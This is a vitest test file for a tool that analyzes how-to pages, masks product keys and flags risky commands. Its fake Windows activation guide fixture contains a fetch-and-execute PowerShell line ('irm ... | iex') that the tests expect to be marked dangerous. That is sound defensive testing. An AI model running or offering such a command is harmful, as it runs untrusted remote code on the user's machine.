import { describe, expect, test } from 'vitest';
import { analyzeDocument } from '../../../lib/guide/analyze.ts';

const KEY = 'QX2WB-7KD4M-HTR9C-3VNPG-8YFJ6';

function parse(body: string): Document {
  const title = 'How to activate Windows 11 with a product key';
  return new DOMParser().parseFromString(
    `<!doctype html><html lang="en"><title>${title}</title><body><article><h1>${title}</h1>${body}</article></body></html>`,
    'text/html',
  );
}

const GUIDE = `<p>Windows asks for activation after new hardware.</p><h2>Enter the product key</h2><ol>
<li>Open <b>Settings</b> &gt; <b>System</b> &gt; <b>Activation</b>.</li>
<li>Click <b>Change product key</b> and enter ${KEY}.</li>
<li>Run <code>irm https://get.example.net/a | iex</code> in PowerShell.</li></ol>`;

describe('analyzeDocument', () => {
  test('leaves the document as it was', () => {
    const doc = parse(GUIDE);
    const before = doc.documentElement.outerHTML;
    analyzeDocument(doc, { force: true });
    expect(doc.documentElement.outerHTML).toBe(before);
  });

  test('shows no product key anywhere', () => {
    const { analysis } = analyzeDocument(parse(GUIDE));
    expect(analysis.verdict).toBe('guide');
    expect(JSON.stringify(analysis)).not.toContain('7KD4M');
    expect(analysis.procedures[0]?.steps[1]?.text).toContain('•••••');
  });

  test('takes a remark that is nothing but a command for one', () => {
    const { analysis } = analyzeDocument(
      parse(`<div class="row"><div>1</div><div>Open the command prompt as administrator and give this:</div>
        <div class="mono">wmic path softwarelicensingservice get OA3xOriginalProductKey</div><div>The key appears below.</div></div>
        <div class="row"><div>2</div><div>Open Settings &gt; System &gt; Activation and enter the key.</div></div>`),
    );
    const steps = analysis.procedures.flatMap((procedure) => procedure.steps);
    const all = steps.flatMap((step) => [step, ...step.substeps]);
    expect(all.flatMap(({ commands }) => commands.map(({ text }) => text))).toContain(
      'wmic path softwarelicensingservice get OA3xOriginalProductKey',
    );
    expect(all.flatMap(({ notes }) => notes.map(({ text }) => text)).join()).not.toContain('wmic');
  });

  test('raises each rule once a step, in the words of the command', () => {
    const { analysis } = analyzeDocument(parse(GUIDE));
    const step = analysis.procedures[0]?.steps[2];
    const raised = analysis.risks.filter(({ id }) => step?.risks.includes(id));
    expect(new Set(raised.map(({ rule }) => rule)).size).toBe(raised.length);
    expect(raised.map(({ text }) => text)).toContain('irm https://get.example.net/a | iex');
    expect(step?.commands.map(({ effect }) => effect)).toEqual(['dangerous']);
  });

  test('every step has a source in the document, and ids are unique and stable', () => {
    const doc = parse(GUIDE);
    const first = analyzeDocument(doc);
    const ids = first.analysis.procedures.flatMap(({ steps }) => steps.map(({ id }) => id));
    expect(new Set(ids).size).toBe(ids.length);
    for (const id of ids) expect(first.sources.get(id)?.every((node) => doc.contains(node))).toBe(true);
    const again = analyzeDocument(parse(GUIDE)).analysis.procedures.flatMap(({ steps }) =>
      steps.map(({ id }) => id),
    );
    expect(again).toEqual(ids);
  });

  test('a page that is no guide has no steps unless they are asked for', () => {
    const doc = parse('');
    doc.title = 'Bread';
    doc.querySelector('h1')?.remove();
    doc
      .querySelector('article')
      ?.append(
        ...new DOMParser().parseFromString(
          '<ol><li>Open the flour.</li><li>Press the dough.</li></ol>',
          'text/html',
        ).body.childNodes,
      );
    expect(analyzeDocument(doc).analysis).toMatchObject({ verdict: 'other', procedures: [] });
    expect(analyzeDocument(doc, { force: true }).analysis.procedures[0]?.steps).toHaveLength(2);
  });

  test('a document without a body is no guide', () => {
    const doc = new DOMParser().parseFromString('<a><b>activate Windows</b></a>', 'application/xml');
    expect(analyzeDocument(doc, { force: true }).analysis.verdict).toBe('other');
  });
});
